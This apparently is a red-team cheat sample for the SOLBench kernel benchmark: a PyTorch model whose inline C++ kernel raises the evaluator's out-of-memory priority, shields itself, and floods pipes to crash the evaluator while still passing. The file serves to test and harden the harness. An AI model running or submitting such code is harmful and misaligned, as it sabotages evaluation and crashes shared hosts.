"""Exploit (native, destructive: exhausting the parent's memory). Passes nothing by itself.

The kernel is honest. On its first call the C++ forward
- makes its parent and grandparent (the zygote and the evaluator) the out-of-memory killer's first
  choices and itself the last, writing 1000 to their `/proc/<pid>/oom_score_adj` (any process of
  the same user may raise it) and -1000 to its own
  (allowed where it runs as root or with CAP_SYS_RESOURCE, as workers here do);
- writes bytes without a newline to every pipe it holds for writing: above all the private result
  channel, which SOLBench's parent reads to the end into memory (`sandbox._read_until` keeps every
  chunk, unbounded, until the child exits or its run limit passes), and stdout where a naive
  evaluator captures it.
At a pipe's speed (GB/s) the parent's memory grows until the host's runs out, and the kernel then
kills the parent, not the worker: every sample of the run is lost. This copy stops after
kFloodBytes (128 MiB) so a test run survives it; an attacker loops until the limit. The last
line the parent reads is the real verdict preceded by spaces, which JSON accepts: the sample itself
still passes.

How it is demonstrated (tests/cheats/test_native_cheats.py): the naive evaluator's captured
stdout holds the whole 128 MiB (its parent had to buffer it), its oom_score_adj was raised, and
the evaluator still reports a pass."""

import torch
from torch.utils.cpp_extension import load_inline

SOURCE = r"""
#include <torch/extension.h>
#include <dirent.h>
#include <fcntl.h>
#include <sys/stat.h>
#include <unistd.h>
#include <cstdio>
#include <cstring>
#include <string>
#include <vector>

namespace {

const size_t kFloodBytes = size_t(128) << 20;  // an attacker: until the parent is gone

void set_oom_score(pid_t pid, const char* value) {
    int fd = open(("/proc/" + std::to_string(pid) + "/oom_score_adj").c_str(), O_WRONLY | O_CLOEXEC);
    if (fd < 0) return;
    ssize_t n = write(fd, value, std::strlen(value));
    (void)n;
    close(fd);
}

pid_t parent_of(pid_t pid) {
    char buf[1024] = {0};
    int fd = open(("/proc/" + std::to_string(pid) + "/stat").c_str(), O_RDONLY | O_CLOEXEC);
    if (fd < 0) return 0;
    ssize_t n = read(fd, buf, sizeof buf - 1);
    close(fd);
    const char* after = n > 0 ? std::strrchr(buf, ')') : nullptr;
    int ppid = 0;
    if (after) std::sscanf(after + 2, "%*c %d", &ppid);
    return ppid;
}

void flood() {
    pid_t parent = getppid(), grandparent = parent_of(parent);
    set_oom_score(parent, "1000");
    if (grandparent > 1) set_oom_score(grandparent, "1000");
    set_oom_score(getpid(), "-1000");
    std::vector<int> pipes;
    if (DIR* own = opendir("/proc/self/fd")) {
        while (dirent* e = readdir(own)) {
            int fd = std::atoi(e->d_name);
            struct stat st;
            int flags = fcntl(fd, F_GETFL);
            if (e->d_name[0] != '.' && fd != dirfd(own) && flags >= 0 && (flags & O_ACCMODE) != O_RDONLY &&
                fstat(fd, &st) == 0 && S_ISFIFO(st.st_mode))
                pipes.push_back(fd);
        }
        closedir(own);
    }
    std::vector<char> block(1 << 20, ' ');
    for (int fd : pipes)
        for (size_t sent = 0; sent < kFloodBytes;) {
            ssize_t n = write(fd, block.data(), block.size());
            if (n <= 0) break;
            sent += n;
        }
}

}  // namespace

torch::Tensor scale_shift(torch::Tensor x) {
    static bool flooded = (flood(), true);
    (void)flooded;
    auto xc = x.contiguous();
    auto y = torch::empty_like(xc);
    const float* in = xc.data_ptr<float>();
    float* out = y.data_ptr<float>();
    for (int64_t i = 0; i < xc.numel(); ++i) out[i] = in[i] * 2.0f + 1.0f;
    return y;
}
"""

ext = load_inline(name="rt_flood_parent", cpp_sources=SOURCE, functions=["scale_shift"], verbose=False)


class ModelNew(torch.nn.Module):
    def forward(self, x):
        return ext.scale_shift(x)
